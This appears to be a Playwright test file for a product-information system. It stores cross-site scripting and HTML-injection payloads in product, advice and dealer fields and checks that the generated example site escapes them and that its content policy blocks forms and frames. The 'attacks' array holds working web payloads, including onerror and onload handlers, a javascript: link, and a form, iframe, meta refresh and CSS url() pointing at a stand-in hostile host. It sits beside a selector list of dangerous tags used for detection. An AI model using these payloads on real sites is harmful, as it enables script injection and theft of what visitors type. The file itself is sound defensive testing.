import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deliverableFields } from '@nutripim/contract/publishing/channel-settings'
import { connectDemo } from '@nutripim/product-site/demo/connect-demo'
import { serveSite } from '@nutripim/product-site/serve-site'
import { openSite } from '@nutripim/product-site/site'
import { hostileHost, listHostileTexts } from '@nutripim/tools/test-support/hostile-html'
import { type Call, expect, people, test } from '../tools/fixtures.ts'
import { recordEffects } from '../tools/record-effects.ts'

const code = 'window.hostileRan=1'
/** What leads a visitor away, sends what they type, runs a script, or loads something from elsewhere. */
const attacks = [
  `"'><img src=x onerror=${code}>`,
  `<meta http-equiv="refresh" content="0;url=https://${hostileHost}/">`,
  `<form action="https://${hostileHost}/"><input name="a"><button>Send</button></form>`,
  `<iframe src="https://${hostileHost}/"></iframe><script>${code}</script>`,
  `<svg/onload=${code}></title></style></textarea><base href="https://${hostileHost}/">`,
  `<style>*{background:url(https://${hostileHost}/)}</style>`,
  `<a href="javascript:${code}" onmouseover=${code} autofocus onfocus=${code} tabindex=0>a</a>`,
]
/** As many of them as a field can store. */
const hostile = (max: number): string => attacks.join('').slice(0, max)
const address = `https://${hostileHost}/?a='onmouseover='${code}`

/** Gives hostile values to every field of a product, an advice and a dealer that can store them. */
async function storeHostileValues(call: Call, country: string, legacyProductId: number) {
  async function store(path: string, body: object) {
    const answer = await call('POST', path, body)
    expect({ path, status: answer.status, problem: answer.body.detail }).toEqual({
      path,
      status: 200,
      problem: undefined,
    })
    return answer.body
  }
  const addEntry = async (list: string, more = {}): Promise<string> =>
    (
      await store('regional/reference-item', {
        list,
        id: `${list}-${Date.now()}`,
        name: hostile(100),
        ...more,
      })
    ).id
  const dhCode = `"'><b onclick=x>&lt;`
  await store('product-information/product-description', {
    countryId: country,
    legacyProductId,
    dhCode,
    productName: hostile(200),
    productRange: await addEntry('ranges'),
    webProductName: hostile(200),
    weblinkPackImage: address,
    weblinkPackImageAltText: hostile(500),
    weblinkSafetyDataSheet: address,
    webShortDescription: hostile(2000),
    webMediumDescription: hostile(2000),
    webLongDescription: `<p>Long</p>${listHostileTexts().join('').slice(0, 90_000)}`,
    webSynonyms: [hostile(200)],
    labelCodeFront: hostile(200),
    labelCodeBack: hostile(200),
    showAdvice: true,
  })
  await store('product-information/product-applications', {
    countryCode: country,
    products: [{ legacyProductId, formOfProduct: await addEntry('forms', { unit: 'KGM' }) }],
  })
  await store('product-advice/upsert-advice', {
    CountryId: country,
    ProductId: dhCode,
    CropId: await addEntry('crops'),
    ApplicationAdviceText: `First line\nSecond line ${hostile(2000)}`,
  })
  await store('product-information/dealers', {
    dealerContactId: 0,
    countryId: country,
    groupingText: hostile(500),
    grouping2Text: hostile(500),
    name: hostile(500),
    address: hostile(2000),
    telephone1: hostile(100),
    telephone2: hostile(100),
    email1: "o'hara@example.com",
    webSite1: address,
    comments: hostile(2000),
    longitude: -8,
    latitude: 53,
    englishGroupingText: hostile(500),
    englishName: hostile(500),
    englishAddress: hostile(2000),
  })
}

const dangerous =
  'script, iframe, frame, object, embed, form, input, button, base, style, svg [onload], meta[http-equiv=refresh]'

test('hostile values in every delivered field are text on the example site, with its policy and without', async ({
  browser,
  product,
  callAs,
}) => {
  test.setTimeout(240_000)
  const call = await callAs(people.globalAdmin)
  const channel = { country: 'IE', channel: `texts-${Date.now()}` }
  await call('POST', 'regional/reference-item', {
    list: 'channels',
    id: channel.channel,
    name: channel.channel,
  })
  const { client } = await connectDemo(product, channel)
  await call('POST', 'publishing/channel-settings', {
    countryCode: channel.country,
    channelId: channel.channel,
    settings: { mode: 'automatic', fields: deliverableFields, filter: ['showOnWeb'], checks: [] },
  })
  const list = { params: channel, query: { limit: 1 } }
  const [{ legacyProductId } = { legacyProductId: 0 }] = (
    await client.call('listDeliveredProducts', list)
  ).items
  await storeHostileValues(call, channel.country, legacyProductId)
  await expect
    .poll(async () => {
      const { items } = await client.call('listDeliveredAdvice', {
        params: channel,
        query: { limit: 500 },
      })
      const { items: dealers } = await client.call('listDeliveredDealers', {
        params: channel,
        query: { limit: 500 },
      })
      return [
        items.some(({ text }) => text.includes('<form')),
        dealers.some(({ name }) => name.includes('<form')),
      ]
    })
    .toEqual([true, true])

  const folder = mkdtempSync(join(tmpdir(), 'nutripim-site-'))
  const site = await openSite({ client, channel, folder })
  const served = await serveSite({ site, folder: join(folder, 'public') }, 0)
  writeFileSync(join(folder, 'public/unescaped.html'), `<!doctype html>${attacks.join('\n')}`)
  for (const bypassCSP of [false, true]) {
    const context = await browser.newContext({ bypassCSP })
    const page = await context.newPage()
    const effects = await recordEffects(page, [served.url])
    for (const path of ['/', `/products/${legacyProductId}/`, '/dealers/', '/dealers/map.svg']) {
      await page.goto(`${served.url}${path}`)
      const found = await page.evaluate((selector) => {
        const all = [...document.querySelectorAll('*')]
        const handlers = all.flatMap((each) =>
          each.getAttributeNames().filter((name) => /^on/i.test(name)),
        )
        const links = all
          .map((each) => each.getAttribute('href') ?? '')
          .filter((href) => /^\s*(javascript|data):/i.test(href))
        // The map brings its own style, which no text can become part of.
        const tags = [...document.querySelectorAll(selector)].map(({ localName }) => localName)
        return {
          handlers,
          links,
          tags: tags.filter((tag) => tag !== 'style' || document.contentType === 'text/html'),
        }
      }, dangerous)
      expect({ path, ...found }).toEqual({ path, handlers: [], links: [], tags: [] })
      expect(page.url()).toBe(`${served.url}${path}`)
    }
    await page.goto(`${served.url}/products/${legacyProductId}/`)
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(hostile(200))
    const advice = page.getByRole('region', { name: 'Advice by crop' })
    await expect(advice).toContainText(
      `<meta http-equiv="refresh" content="0;url=https://${hostileHost}/">`,
    )
    expect(await advice.locator('.lines').innerText()).toMatch(/^First line\nSecond line /)
    await expect(page.getByRole('region', { name: 'Description' })).toContainText('Long')
    expect({ bypassCSP, effects }).toEqual({ bypassCSP, effects: [] })

    // The same texts unescaped: the policy stops all but the one that leads visitors away.
    await context.route(`https://${hostileHost}/**`, (route) => route.abort())
    await page.goto(`${served.url}/unescaped.html`)
    await expect.poll(() => effects.length).toBeGreaterThan(0)
    const ran = effects.includes('ran')
    expect({ bypassCSP, ran }).toEqual({ bypassCSP, ran: bypassCSP })
    await context.close()
  }
  await served.close()
  rmSync(folder, { recursive: true })
})

test('the policy of the example site forbids forms and frames', async ({ page }) => {
  const folder = mkdtempSync(join(tmpdir(), 'nutripim-site-'))
  const site = { refresh: async () => [] }
  const served = await serveSite({ site, folder }, 0)
  const effects = await recordEffects(page, [served.url])
  writeFileSync(join(folder, 'framed.html'), '<p>Framed</p>')
  writeFileSync(
    join(folder, 'index.html'),
    `<form action="/sent.html"><button>Send</button></form><form action="https://${hostileHost}/"><button>Steal</button></form>
<iframe src="https://${hostileHost}/"></iframe><iframe src="/framed.html"></iframe><iframe srcdoc="<p>Inside</p>"></iframe>
<object data="/framed.html"></object><embed src="/framed.html">`,
  )
  const violations: string[] = []
  page.on('console', (message) => violations.push(message.text()))
  await page.goto(`${served.url}/`)
  for (const name of ['Send', 'Steal']) {
    // A click would wait for the page that the form leads to.
    await page.getByRole('button', { name }).dispatchEvent('click')
    await expect
      .poll(() => violations.filter((text) => text.includes('form-action')).length)
      .toBeGreaterThan(name === 'Send' ? 0 : 1)
  }
  expect(page.url()).toBe(`${served.url}/`)
  expect(
    page
      .frames()
      .map((frame) => frame.url())
      .filter((url) => url.includes('framed')),
  ).toEqual([])
  expect(violations.filter((text) => text.includes('frame-src')).length).toBeGreaterThan(1)
  expect(effects).toEqual([])
  await served.close()
  rmSync(folder, { recursive: true })
})
